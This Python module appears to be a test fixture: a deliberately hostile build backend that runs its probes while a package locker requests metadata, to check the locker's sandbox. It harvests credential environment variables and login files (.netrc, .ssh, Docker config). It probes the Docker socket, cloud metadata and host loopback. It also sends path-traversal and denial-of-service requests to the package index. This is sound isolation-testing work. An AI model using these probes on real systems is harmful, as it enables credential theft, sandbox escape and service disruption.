"""The build backend of a distribution that means harm: asked for its metadata while locking, it tries
what it should not be able to do, that of `attack.py` too, and tells its index what it could.

`target.json` beside it says where to try: `host_port`, a service on the host's loopback interface;
`addresses`, the host's own; `abstract`, an abstract Unix socket of the host; `canary`, a file of the
host; `hidden`, texts that nobody inside should see, each from its end to its beginning, lest they be
found in it. What it looks for in files and environments is MARK, which stands in no file of the
distribution. A try that returns something true has succeeded.
"""

import http.client
import json
import os
import re
import socket
import sys
from pathlib import Path

import attack

TARGET = json.loads((Path(__file__).parent / "target.json").read_text())
INDEX = "127.0.0.1", 8080
MARK = bytes(reversed(b"terc3s"))
LARGEST = 1 << 24
tries = []


def attempt(function):
    tries.append(function)
    return function


def environments():
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            yield path.read_bytes()
        except OSError:
            pass


@attempt
def a_secret_in_an_environment():
    return any(MARK in text for text in environments())


@attempt
def a_variable_of_the_caller():
    names = rb"\0(?:NETRC|POETRY_HTTP_BASIC\w*|POETRY_PYPI_TOKEN\w*|\w+_PROXY|\w*CERT\w*|SSH_\w+|AWS_\w+)="
    return any(re.search(names, b"\0" + text, re.IGNORECASE) for text in environments())


@attempt
def a_secret_in_a_command_line():
    return any(MARK in path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline"))


@attempt
def a_secret_in_a_file():
    # Everything but what Debian's packages brought.
    for folder, below, names in os.walk("/"):
        if folder == "/":
            below[:] = [name for name in below if name not in ("proc", "sys", "usr", "bin", "lib", "lib64", "sbin")]
        for name in names:
            path = Path(folder, name)
            try:
                if path.is_file() and path.stat().st_size < LARGEST and MARK in path.read_bytes():
                    return path
            except OSError:
                pass


@attempt
def a_login_file():
    homes = [Path.home(), Path("/root"), Path("/lock"), *Path("/home").glob("*")]
    names = (".netrc", "netrc", ".config/pypoetry/auth.toml", ".config/pip/pip.conf", ".ssh", ".docker/config.json")
    return [home / name for home in homes for name in names if (home / name).exists()]


@attempt
def a_file_of_the_host():
    return Path(TARGET["canary"]).exists()


def connects(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect(address)
        return True


@attempt
def the_service_on_the_hosts_loopback():
    return connects(("127.0.0.1", TARGET["host_port"]))


@attempt
def the_same_by_its_name():
    return connects((socket.gethostbyname("localhost"), TARGET["host_port"]))


@attempt
def the_same_by_another_address_of_loopback():
    return connects(("127.1.2.3", TARGET["host_port"])) or connects(("0.0.0.0", TARGET["host_port"]))


@attempt
def the_same_over_ipv6():
    return connects(("::1", TARGET["host_port"], 0, 0), socket.AF_INET6)


@attempt
def an_address_of_the_host():
    def one(address):
        try:
            return connects((address, TARGET["host_port"]))
        except OSError:
            return False

    return any(map(one, TARGET["addresses"]))


@attempt
def an_abstract_socket_of_the_host():
    return connects("\0" + TARGET["abstract"], socket.AF_UNIX)


@attempt
def the_docker_engine():
    return connects("/var/run/docker.sock", socket.AF_UNIX)


@attempt
def the_internet():
    return connects(("1.1.1.1", 80))


@attempt
def the_internet_over_ipv6():
    return connects(("2606:4700:4700::1111", 80, 0, 0), socket.AF_INET6)


@attempt
def the_metadata_of_a_cloud():
    return connects(("169.254.169.254", 80))


@attempt
def a_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        return datagrams.sendto(b"hello", ("1.1.1.1", 53))


@attempt
def a_name():
    return socket.getaddrinfo("example.com", 80)


@attempt
def another_interface():
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@attempt
def a_route():
    return Path("/proc/net/route").read_text().splitlines()[1:]


def asks(first_line, *headers, body=b""):
    """What the index says to a request, raw."""
    with socket.create_connection(INDEX, timeout=60) as connection:
        connection.sendall("\r\n".join([first_line, *headers, "", ""]).encode() + body)
        answer = b""
        while part := connection.recv(1 << 16):
            answer += part
        return answer


def ok(answer):
    return answer.split(b" ")[1][:1] in (b"2", b"3")


@attempt
def the_index_as_a_proxy():
    return ok(asks(f"GET http://127.0.0.1:{TARGET['host_port']}/simple/ HTTP/1.1"))


@attempt
def the_index_as_a_tunnel():
    return ok(asks(f"CONNECT 127.0.0.1:{TARGET['host_port']} HTTP/1.1"))


@attempt
def the_index_under_another_hosts_name():
    host = f"127.0.0.1:{TARGET['host_port']}"
    return ok(asks("GET /admin HTTP/1.1", f"Host: {host}", f"X-Forwarded-Host: {host}"))


@attempt
def another_page_of_the_real_index():
    paths = ("/private/simple/../admin", "/private/simple/..%2Fadmin/", "/private/simple/%2e%2e/", "/private/admin")
    paths += ("/private/files/hostile/..%2F..%2Fadmin", "/private/simple/a%3Fb/", "/private/simple/a%23/")
    return [path for path in paths if ok(asks(f"GET {path} HTTP/1.1"))]


@attempt
def a_source_that_nobody_named():
    return ok(asks("GET /elsewhere/simple/hostile/ HTTP/1.1"))


@attempt
def an_upload():
    return ok(asks("POST /private/simple/hostile/ HTTP/1.1", "Content-Length: 4", body=b"more"))


@attempt
def a_login_or_an_address_in_an_answer():
    paths = ("/private/simple/hostile/", "/private/files/hostile/hostile-1.0.tar.gz", "/private/simple/none/", "/")
    heard = b"".join(asks(f"{method} {path} HTTP/1.1") for path in paths for method in ("GET", "HEAD", "PUT"))
    return [text for text in (MARK.decode(), *(text[::-1] for text in TARGET["hidden"])) if text.encode() in heard]


@attempt
def the_index_when_many_hold_on_to_it():
    # It may be slow, but not gone.
    held = [socket.create_connection(INDEX, timeout=60) for _ in range(100)]
    for one in held:
        one.sendall(b"GET /private/simple/hos")
    for one in held:
        one.close()
    return not ok(asks("GET /private/simple/hostile/ HTTP/1.1"))


@attempt
def the_index_with_a_head_that_does_not_end():
    try:
        asks("GET /private/simple/hostile/ HTTP/1.1", *(f"A{n}: {'b' * 1000}" for n in range(1000)))
    except OSError:
        pass
    return not ok(asks("GET /private/simple/hostile/ HTTP/1.1"))


def tell(what):
    """The one way out: the names of projects that an index is asked for."""
    connection = http.client.HTTPConnection(*INDEX)
    connection.request("GET", f"/private/simple/{what.replace('_', '-')}/")
    connection.getresponse().read()


def try_all():
    # Whoever reads what this says would wait for a process that stays.
    said = os.open("/tmp/said", os.O_WRONLY | os.O_CREAT)
    for number in (1, 2):
        os.dup2(said, number)
    os.close(said)
    everything = [*tries, *attack.tries]
    for function in everything:
        try:
            gained = function()
        except Exception as error:
            print(function.__name__, "failed:", error, file=sys.stderr)
        else:
            if gained:
                tell(f"could-reach-{function.__name__}")
    tell(f"tried-{len(everything)}")


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    try_all()
    folder = Path(metadata_directory) / "hostile-1.0.dist-info"
    folder.mkdir()
    (folder / "METADATA").write_text("Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n")
    (folder / "WHEEL").write_text("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    return folder.name


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise NotImplementedError("it is only ever locked")
